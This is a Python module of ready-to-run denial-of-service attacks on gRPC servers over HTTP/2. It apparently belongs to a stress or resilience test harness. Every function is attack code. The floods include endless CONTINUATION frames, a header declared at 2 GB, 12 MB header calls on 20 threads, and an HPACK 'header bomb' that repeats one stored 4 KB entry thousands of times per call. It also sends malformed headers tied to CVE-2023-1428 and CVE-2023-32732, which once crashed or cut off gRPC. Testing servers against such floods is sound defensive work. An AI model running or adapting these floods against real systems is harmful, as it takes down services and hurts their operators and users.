"""Attacks with headers that never end, are huge, or grow when they are decoded."""

from attacks.target import in_threads, persist
from attacks.wire import (
    CONTINUATION,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    MAX_FRAME,
    frame,
    header,
    number,
    request_headers,
)


def _endless(target, piece, start=b"", acknowledge=True):
    def body(peer):
        if acknowledge:
            peer.acknowledge()
        stream = next(peer.streams)
        peer.send(frame(HEADERS, 0, stream, request_headers(target.unary) + start))
        burst = frame(CONTINUATION, 0, stream, piece) * 20
        while True:
            peer.send(burst)

    persist(target, body)


def endless_continuation(target):
    """CONTINUATION frames without end, each with a header of 16 KB"""
    filler = header(b"x-filler", b"a" * (MAX_FRAME - 20))
    _endless(target, filler)


def endless_small_headers(target):
    """CONTINUATION frames without end, full of small headers"""
    _endless(target, header(b"x", b"y") * 2000, acknowledge=False)


def endless_one_header(target):
    """CONTINUATION frames without end that carry one header of 2 GB"""
    start = b"\x00" + number(1, 7) + b"x" + number(2_000_000_000, 7)
    _endless(target, b"a" * MAX_FRAME, start, acknowledge=False)


def empty_continuation(target):
    """empty CONTINUATION frames without end"""
    _endless(target, b"", acknowledge=False)


def giant_headers(target):
    """calls with 12 MB of headers on 20 connections, which never acknowledge the server's settings"""
    filler = header(b"x-filler", b"a" * (MAX_FRAME - 20))

    def body(peer):
        while True:
            stream = next(peer.streams)
            peer.send(frame(HEADERS, END_STREAM, stream, request_headers(target.unary)))
            for _ in range(12 * 64):
                peer.send(frame(CONTINUATION, 0, stream, filler))
            peer.send(frame(CONTINUATION, END_HEADERS, stream, header(b"x-end", b"1")))

    in_threads(20, lambda: persist(target, body))


def header_bomb(target):
    """a header of 4,000 bytes stored once in the HPACK table and named 16,000 times in each call"""

    def body(peer):
        stored = header(b"x-bomb", b"a" * 3900, indexed=True)
        peer.send(frame(HEADERS, END_HEADERS | END_STREAM, next(peer.streams), request_headers(target.unary) + stored))
        bomb = request_headers(target.unary)
        bomb += b"\xbe" * (MAX_FRAME - len(bomb))  # 0xbe is the newest entry of the dynamic table.
        while True:
            peer.send(frame(HEADERS, END_HEADERS | END_STREAM, next(peer.streams), bomb))

    in_threads(4, lambda: persist(target, body))


def unreadable_headers(target):
    """headers that gRPC cannot read and once aborted on (CVE-2023-1428), or ends the connection for (CVE-2023-32732), with 12 KB of others"""
    names = ((b"te", b"x"), (b":scheme", b"x"), (b"grpclb_client_stats", b"x"), (b"x-bin", b"not base64!"), (b"grpc-timeout", b"soon"))
    filler = b"".join(header(b"x-filler", b"a" * 1000) for _ in range(12))

    def body(peer):
        peer.acknowledge()
        for name, value in names:
            for large in (filler, b""):
                headers = header(name, value) + request_headers(target.unary) + header(name, value) + large
                peer.send(frame(HEADERS, END_HEADERS | END_STREAM, next(peer.streams), headers))
        peer.idle(0.01)

    in_threads(4, lambda: persist(target, body))
